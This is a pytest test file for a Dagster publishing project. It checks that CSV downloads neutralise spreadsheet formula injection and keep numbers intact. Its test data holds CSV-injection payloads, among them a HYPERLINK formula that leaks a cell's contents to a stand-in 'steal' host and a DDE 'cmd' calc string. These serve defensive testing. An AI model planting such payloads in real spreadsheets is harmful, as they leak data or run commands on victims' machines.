"""The CSV downloads beside each Quality Account and portal page open safely in a
spreadsheet: text that a spreadsheet would run as a formula (a delivered file named
`=HYPERLINK(...)`, say) is written with a leading quote, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import duckdb
import pytest
from conftest import document_fixtures

from dagster_project.publish.document.tables import (
    Cell,
    Column,
    DataTable,
    count,
    money,
    number,
    spreadsheet_safe,
    text,
)
from dagster_project.publish.portal.site import render_site

LINK = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Open the file")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (LINK, "'" + LINK),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("-0.25e3", "-0.25e3"),
        ("1,234", "1,234"),
        ("Alpha = Beta", "Alpha = Beta"),
        ("", ""),
    ],
)
def test_formula_text_is_neutralised_and_numbers_are_not(cell, written):
    assert spreadsheet_safe(cell) == written


def test_a_table_csv_quotes_formulas_and_keeps_negative_numbers():
    table = DataTable(
        name="t",
        caption="t",
        columns=(Column("Source file"), Column("Change", numeric=True), Column("Income")),
        rows=(
            (text(LINK), number(-1.5, 1), money(-1234.5)),
            (text("-"), count(-3), Cell(None, "=suppressed")),
        ),
    )
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows == [
        ["Source file", "Change", "Income", "note"],
        ["'" + LINK, "-1.5", "-1234.50", ""],
        ["'-", "-3", "", "'=suppressed"],
    ]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A Quality Account whose data quality table lists a delivered file named as a formula."""
    root = tmp_path_factory.mktemp("csv_safety")
    db = document_fixtures().build_document_db(root / "quality.duckdb")
    con = duckdb.connect(str(db))
    con.execute(
        "insert into data_quality values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
        ["fft", "fft_responses", LINK, "c" * 64, "RBB", "Y56", None, None, 3, 1, 0],
    )
    con.close()
    render_site(db, root / "site", ["RBB"], pdf=False)
    return root / "site"


def test_the_downloaded_csv_holds_the_file_name_as_text(site):
    folder = site / "RBB" / "2017-18"
    written = (folder / "data" / "data-quality-files.csv").read_text(encoding="utf-8")
    [bundle] = folder.glob("*-data.zip")
    with zipfile.ZipFile(bundle) as archive:
        zipped = archive.read("data-quality-files.csv").decode("utf-8")
    for content in (written, zipped):
        first_cells = [row[0] for row in csv.reader(io.StringIO(content))]
        assert "'" + LINK in first_cells
        assert LINK not in first_cells


def test_no_figure_in_any_download_is_quoted(site):
    """Only text is neutralised: every cell that is a number once the quote is taken off
    was written without one."""
    files = sorted(site.rglob("*.csv"))
    assert files
    for path in files:
        for row in csv.reader(path.open(encoding="utf-8", newline="")):
            for cell in row:
                if cell.startswith("'"):
                    with pytest.raises(ValueError):
                        float(cell[1:])
